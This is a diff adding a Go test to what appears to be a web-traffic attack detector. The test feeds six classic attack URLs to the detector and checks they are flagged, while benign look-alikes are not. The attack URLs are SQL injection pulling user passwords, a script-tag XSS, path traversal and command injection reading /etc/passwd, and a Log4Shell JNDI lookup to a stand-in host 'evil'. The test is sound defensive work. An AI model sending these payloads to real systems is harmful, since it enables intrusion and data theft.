@@ -296,6 +296,28 @@ func TestSeen(t *testing.T) {
 	}
 }
 
+// TestObviousAttacks: what everybody tries first, on a log of a few lines, is
+// found by the built-in models at their own threshold; honest look-alikes are not.
+func TestObviousAttacks(t *testing.T) {
+	cfg := builtinConfig(t)
+	cfg.Threshold = 0.82
+	attacks := []string{
+		"/?q=%27%20or%201=1--", "/items?id=1+UNION+SELECT+user,password+FROM+users", "/search?q=<script>alert(1)</script>",
+		"/download?file=../../../../etc/passwd", "/ping?host=127.0.0.1;cat+/etc/passwd", "/x?u=${jndi:ldap://evil/a}",
+	}
+	honest := []string{"/search?q=O%27Brien", "/api/users/17", "/plans?note=select+a+plan+from+our+union", "/search?q=drop-off+near+me", "/a?next=https%3A%2F%2Fexample.org%2Fb%3Fc%3Dd", "/"}
+	var reqs []traffic.Request
+	for i, target := range append(attacks, honest...) {
+		reqs = append(reqs, traffic.Request{Time: int64(1767607200+i) * 1e6, Method: "GET", Target: target, Protocol: "HTTP/1.1", Status: 200, BytesOut: 512, BytesIn: -1, Latency: -1, Client: "192.0.2." + string(rune('1'+i%9)), Agent: "Mozilla/5.0"})
+	}
+	rs, _ := scored(t, cfg, reqs, 100)
+	for i, r := range rs {
+		if r.Flagged() != (i < len(attacks)) {
+			t.Errorf("%s: probability %.3f, class %s, rules %v", r.Target, r.Probability, r.Class, r.Rules)
+		}
+	}
+}
+
 func TestNewRefuses(t *testing.T) {
 	good := builtinConfig(t)
 	for name, spoil := range map[string]func(*score.Config){
